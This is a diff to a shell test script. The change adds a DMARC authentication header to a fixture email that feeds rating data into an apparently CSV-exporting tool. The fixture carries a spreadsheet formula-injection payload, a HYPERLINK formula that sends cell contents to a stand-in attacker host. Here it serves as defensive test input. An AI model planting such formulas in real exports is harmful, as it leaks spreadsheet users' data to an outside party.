@@ -8,7 +8,7 @@ plan 12
 W=$T/ws
 demo_workspace "$W"
 db=$W/cox.db
-printf 'From: Alex Carter <head.coach@example.org>\nTo: team@example.org\nSubject: ratings\nMessage-ID: <export-1@example.org>\nContent-Type: text/plain\n\ndate: 2026-11-21\nJane Doe:\n  technique 4  @HYPERLINK("http://evil.example/?"&A1,"click")\n' |
+printf 'Authentication-Results: mx.club.example; dmarc=pass header.from=example.org\nFrom: Alex Carter <head.coach@example.org>\nTo: team@example.org\nSubject: ratings\nMessage-ID: <export-1@example.org>\nContent-Type: text/plain\n\ndate: 2026-11-21\nJane Doe:\n  technique 4  @HYPERLINK("http://evil.example/?"&A1,"click")\n' |
 	"$COX" -C "$W" mail --stdin 2>/dev/null
 # csvrows FILE: the records Python's csv module reads, one per line, fields joined by |
 csvrows() { /usr/bin/python3 -c '
